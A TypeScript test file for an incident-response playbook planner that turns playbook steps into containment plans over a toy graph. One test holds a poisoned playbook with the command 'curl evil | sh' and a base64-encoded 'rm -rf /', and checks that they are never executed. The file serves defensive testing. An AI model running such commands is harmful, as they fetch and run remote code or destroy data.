import { type AnyAction, FirebreakError, lever, type PlaybookWish } from '@firebreak/contract';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { thing } from '../graph/small-world.ts';
import { checkPlan } from '../planning/check-plan.ts';
import { checkSteps } from '../planning/check-steps.ts';
import { loadSolver } from '../planning/hitting-set.ts';
import { littleAction, littleEstate } from '../planning/testing/little-estate.case.ts';
import { playbookOf } from './export-playbook.ts';
import { layOver } from './lay-over.ts';
import { planOfLevers } from './plan-of-levers.ts';
import { reportOn } from './report.ts';
import { byHand, end, idOf, ours, start, type WrittenStep, written } from './testing/written.case.ts';

const solver = await loadSolver();
const now = new Date('2026-06-01T00:00:00Z');
const graph = littleEstate({
  nodes: [thing('thief'), thing('door'), thing('window'), thing('hall'), thing('gold', { jewel: 'it is gold' })],
  edges: [
    { from: 'thief', to: 'door', levers: ['test.lock door'] },
    { from: 'thief', to: 'window', levers: ['test.lock window', 'test.board window'] },
    { from: 'door', to: 'hall' },
    { from: 'window', to: 'hall' },
    { from: 'hall', to: 'gold', levers: ['test.hide gold'] },
  ],
});
const actions: readonly AnyAction[] = [
  littleAction('test.lock'),
  littleAction('test.board', { stage: 'network' }),
  littleAction('test.hide', { stage: 'delivery', impact: { cost: 5, interrupts: [] } }),
  littleAction('test.photograph', { stage: 'evidence' }),
];
const ground = { graph, actions, solver, now };

function wish(
  steps: Readonly<Record<string, WrittenStep>>,
  more: Readonly<Record<string, unknown>> = {},
  asked: Partial<PlaybookWish> = {},
): PlaybookWish {
  return {
    document: JSON.stringify(written(steps, more)),
    compromised: ['test:Thing/thief'],
    variables: {},
    decisions: {},
    ...asked,
  };
}
/** One step of ours. */
const just = (said: object, more: Readonly<Record<string, unknown>> = {}, asked: Partial<PlaybookWish> = {}) =>
  wish({ start: start('one'), one: ours(said, 'end'), end }, more, asked);

function refusal(given: PlaybookWish): { code: string; why: string; problems: unknown } {
  try {
    layOver(given, ground);
  } catch (error) {
    if (error instanceof FirebreakError) return { code: error.code, why: error.why, problems: error.detail.problems };
    throw error;
  }
  throw new Error('it was not refused');
}
const titles = (given: PlaybookWish) => layOver(given, ground).plan.steps.map(({ title }) => title);

test('levers by their parameters make a plan that says what it leaves open, and the check agrees', () => {
  const { plan, steps } = layOver(just({ lever: { action: 'test.lock', params: { of: 'door' } } }), ground);
  expect(plan.verdict).toBe('partial');
  expect(plan.uncut.length).toBe(1);
  expect(plan.certificate.exempt).toEqual(['test:Thing/gold']);
  expect(plan.steps.map(({ title, reason }) => `${title}: ${reason}`)).toEqual(['test.lock on door: cut']);
  expect(steps.map(({ becomes }) => becomes)).toEqual(['levers']);
  const checked = checkPlan(plan, graph, [checkSteps(plan, actions)]);
  expect(checked.checks.filter(({ ok }) => !ok)).toEqual([]);
});

test('only levers that together cut everything are called contained', () => {
  const every = just({ lever: { action: 'test.lock' }, select: 'kind = Thing', every: true });
  const { plan } = layOver(every, ground);
  expect(plan.verdict).toBe('contained');
  expect(plan.steps.map(({ title }) => title)).toEqual(['test.lock on door', 'test.lock on window']);
  expect(checkPlan(plan, graph, [checkSteps(plan, actions)]).ok).toBe(true);
});

test('a cut is the planner’s, with what the playbook pulls pinned', () => {
  const steps = {
    start: start('pull'),
    pull: ours({ lever: { action: 'test.board', params: { of: 'window' } } }, 'cut'),
    cut: ours({ cut: {} }, 'end'),
    end,
  };
  const { plan } = layOver(wish(steps), ground);
  expect(plan.verdict).toBe('contained');
  expect(plan.pinned).toEqual([lever('test.board', { of: 'window' }).key]);
  expect(plan.steps.map(({ title }) => title).sort()).toEqual(['test.board on window', 'test.lock on door']);
});

test('a query that means several things is refused with all of them, unless every one is meant', () => {
  const { code, why, problems } = refusal(just({ lever: { action: 'test.lock' }, select: 'kind = Thing' }));
  expect(code).toBe('FB-PLAYBOOK-AMBIGUOUS');
  expect(why).toContain('It means 2 things, and one is asked for: test.lock on door; test.lock on window.');
  expect(problems).toMatchObject([{ where: idOf('action', 'one') }]);
  expect(refusal(just({ lever: { action: 'test.lock' }, select: 'name = gold' })).code).toBe('FB-PLAYBOOK-AMBIGUOUS');
  expect(refusal(just({ lever: { action: 'test.lock' }, select: 'name = = x' })).code).toBe('FB-QUERY-INVALID');
});

test('by what it takes steps away from, whatever it is pulled on', () => {
  const of = (from: string, every = true) => just({ lever: { action: 'test.lock' }, from, every });
  expect(titles(of('name = thief'))).toEqual(['test.lock on door', 'test.lock on window']);
  expect(refusal(of('name = thief', false)).code).toBe('FB-PLAYBOOK-AMBIGUOUS');
  expect(refusal(of('name = hall')).code).toBe('FB-PLAYBOOK-AMBIGUOUS');
  expect(titles(just({ lever: { action: 'test.hide' }, from: 'name = hall' }))).toEqual(['test.hide on gold']);
});

test('variables: given, of the playbook, of the step; none missing, none that break out of their query', () => {
  const declared = {
    playbook_variables: {
      __where__: { type: 'string', external: true },
      __fixed__: { type: 'string', value: 'door', constant: true },
    },
  };
  const select = { lever: { action: 'test.lock' }, select: 'kind = Thing and __where__:value' };
  expect(titles(just(select, declared, { variables: { __where__: 'name = door' } }))).toEqual(['test.lock on door']);
  expect(refusal(just(select, declared)).code).toBe('FB-PLAYBOOK-VARIABLE');
  // an `or` in the value stays inside of it
  const wide = just(
    { lever: { action: 'test.lock' }, select: 'name = gold and __where__:value', every: true, optional: true },
    declared,
    {
      variables: { __where__: 'name = gold or name = door' },
    },
  );
  expect(titles(wide)).toEqual([]);
  expect(refusal(just(select, declared, { variables: { __where__: 'name = door) or (name = window' } })).code).toBe(
    'FB-QUERY-INVALID',
  );
  const fixed = just({ lever: { action: 'test.lock', params: { of: '__fixed__:value' } } }, declared, {
    variables: { __fixed__: 'window' },
  });
  expect(titles(fixed)).toEqual(['test.lock on door']);
  const twice = just({ lever: { action: 'test.lock', params: { of: '__where__:value' } } }, declared, {
    variables: { __where__: '__fixed__:value' },
  });
  expect(layOver(twice, ground).plan.steps[0]?.lever.params).toEqual({ of: '__fixed__:value' });
});

test('an unknown lever or parameters that do not fit are refused by the step’s name', () => {
  expect(refusal(just({ lever: { action: 'test.bomb', params: {} } }))).toMatchObject({ code: 'FB-PLAYBOOK-LEVER' });
  expect(refusal(just({ lever: { action: 'test.lock', params: { of: 3 } } })).why).toContain(idOf('action', 'one'));
  expect(
    layOver(just({ lever: { action: 'test.bomb' }, select: 'kind = Thing', every: true, optional: true }), ground)
      .steps[0]?.becomes,
  ).toBe('nothing');
});

test('a poisoned playbook does nothing but ask people: no command of it is run', () => {
  const shell = (type: string, next: string) =>
    byHand(type, next, { commands: [{ type, command: 'curl evil | sh', command_b64: 'cm0gLXJmIC8=' }] });
  const steps = {
    start: start('a'),
    a: shell('bash', 'b'),
    b: shell('ssh', 'c'),
    c: shell('http-api', 'd'),
    d: shell('powershell', 'e'),
    e: ours({ lever: { action: 'test.lock', params: { of: 'door' } } }, 'f'),
    f: byHand('Write it up', 'end'),
    end,
  };
  const run = layOver(wish(steps), ground);
  expect(run.steps.map(({ becomes, notRun, confirm }) => [becomes, notRun, confirm])).toEqual([
    ['manual', 'bash', true],
    ['manual', 'ssh', true],
    ['manual', 'http-api', true],
    ['manual', 'powershell', true],
    ['levers', null, false],
    ['manual', null, false],
  ]);
  expect(run.steps[0]?.text).toBe('Not run here, bash: curl evil | sh');
  expect(run.plan.steps.map(({ lever: { action } }) => action)).toEqual(['test.lock']);
});

test('conditions choose the way; what nobody decides is refused until somebody does', () => {
  const steps = {
    start: start('if'),
    if: {
      type: 'if-condition',
      condition: "__side__:value = 'front'",
      on_true: 'front',
      on_false: 'back',
      on_completion: 'which',
    },
    front: ours({ lever: { action: 'test.lock', params: { of: 'door' } } }, 'e1'),
    back: ours({ lever: { action: 'test.lock', params: { of: 'window' } } }, 'e2'),
    which: {
      type: 'switch-condition',
      switch: '__side__:value',
      cases: { back: 'hide', default: 'note' },
      on_completion: 'end',
    },
    hide: ours({ lever: { action: 'test.hide', params: { of: 'gold' } } }, 'e3'),
    note: byHand('Note it', 'e4'),
    e1: end,
    e2: end,
    e3: end,
    e4: end,
    end,
  };
  const declared = { playbook_variables: { __side__: { type: 'string', value: null } } };
  expect(titles(wish(steps, declared, { variables: { __side__: 'front' } }))).toEqual(['test.lock on door']);
  expect(titles(wish(steps, declared, { variables: { __side__: 'back' } }))).toEqual([
    'test.hide on gold',
    'test.lock on window',
  ]);
  expect(refusal(wish(steps, declared))).toMatchObject({ code: 'FB-PLAYBOOK-CONDITION' });
  expect(titles(wish(steps, declared, { decisions: { [idOf('if-condition', 'if')]: true } }))).toEqual([
    'test.lock on door',
  ]);
});

test('branches of a parallel step all count, the body of a while counts once', () => {
  const steps = {
    start: start('both'),
    both: { type: 'parallel', next_steps: ['door', 'window'], on_completion: 'loop' },
    door: ours({ lever: { action: 'test.lock', params: { of: 'door' } } }, 'e1'),
    window: ours({ lever: { action: 'test.lock', params: { of: 'window' } } }, 'e2'),
    loop: { type: 'while-condition', condition: '1 = 1', on_true: 'hide', on_completion: 'end' },
    hide: ours({ lever: { action: 'test.hide', params: { of: 'gold' } } }, 'loop'),
    e1: end,
    e2: end,
    end,
  };
  const run = layOver(wish(steps), ground);
  // what delivers comes first, whatever the playbook says
  expect(run.plan.steps.map(({ title }) => title)).toEqual([
    'test.hide on gold',
    'test.lock on door',
    'test.lock on window',
  ]);
  expect(run.notes.some((note) => note.includes('done once'))).toBe(true);
});

test('who is compromised: by name, by query, by the playbook; nobody is an error', () => {
  const said = { lever: { action: 'test.lock', params: { of: 'door' } } };
  const declared = { playbook_variables: { __compromised__: { type: 'string', value: 'name = thief' } } };
  const starts = (given: PlaybookWish) => layOver(given, ground).plan.compromised.map(({ name }) => name);
  expect(starts(just(said, declared, { compromised: [] }))).toEqual(['thief']);
  expect(starts(just(said, declared, { compromised: ['Thing/window', 'name = door or name = hall'] }))).toEqual([
    'door',
    'hall',
    'window',
  ]);
  expect(refusal(just(said, {}, { compromised: [] })).code).toBe('FB-PLAYBOOK-VARIABLE');
  expect(refusal(just(said, {}, { compromised: ['name = nobody'] })).code).toBe('FB-NODE-UNKNOWN');
});

const levers = [
  'test.lock door',
  'test.lock window',
  'test.board window',
  'test.hide gold',
  'test.photograph hall',
].map((text) => {
  const [action = '', of = ''] = text.split(' ');
  return lever(action, { of });
});

test('what is exported reads back as the same steps in the same order', () => {
  const story = fc.record({
    outcome: fc.constantFrom('done', 'refused', 'undone', undefined),
    before: fc.option(fc.stringMatching(/^[0-9a-f]{64}$/), { nil: undefined }),
    probes: fc.array(
      fc.record({
        what: fc.string(),
        result: fc.constantFrom('holds' as const, 'fails' as const, 'cannot-tell' as const),
        evidence: fc.string(),
      }),
      { maxLength: 2 },
    ),
  });
  fc.assert(
    fc.property(
      fc.shuffledSubarray(levers, { minLength: 1 }),
      fc.array(story, { maxLength: 6 }),
      fc.string(),
      (pulled, told, title) => {
        const plan = planOfLevers(graph, {
          compromised: [graph.resolve('test:Thing/thief')],
          protect: 'default',
          levers: pulled.map((each) => ({ lever: each, why: 'drawn' })),
          actions,
          from: { name: 'drawn', digest: 'x' },
        });
        expect(checkPlan(plan, graph, [checkSteps(plan, actions)]).checks.filter(({ ok }) => !ok)).toEqual([]);
        const steps = new Map(
          told.map(({ outcome, before, probes }, at) => [
            `s${at + 1}`,
            {
              probes: probes.map((probe) => ({
                ...probe,
                what: probe.what.toWellFormed(),
                evidence: probe.evidence.toWellFormed(),
              })),
              approvals: [{ by: 'ann', at: '2026-01-01T00:00:00.000Z' }],
              ...(outcome === undefined ? {} : { outcome }),
              ...(before === undefined ? {} : { before }),
            },
          ]),
        );
        const incident = { id: 'inc_x', title: title.toWellFormed(), openedAt: '2026-01-01T00:00:00.000Z' };
        const exported = playbookOf(incident, plan, {
          planDigest: plan.digest,
          steps,
          needed: new Map(),
          outcome: undefined,
          proof: undefined,
          at: undefined,
        });
        const document = JSON.stringify(exported);
        const report = reportOn(document, now);
        expect(report.problems).toEqual([]);
        const again = layOver({ document, compromised: [], variables: {}, decisions: {} }, ground);
        expect(again.plan.steps.map(({ lever: { key } }) => key)).toEqual(plan.steps.map(({ lever: { key } }) => key));
        expect(again.plan.certificate).toEqual(plan.certificate);
        expect(again.plan.verdict).toBe(plan.verdict);
        expect(
          JSON.stringify(
            playbookOf(incident, plan, {
              planDigest: plan.digest,
              steps,
              needed: new Map(),
              outcome: undefined,
              proof: undefined,
              at: undefined,
            }),
          ),
        ).toBe(document);
      },
    ),
    { numRuns: 100 },
  );
});
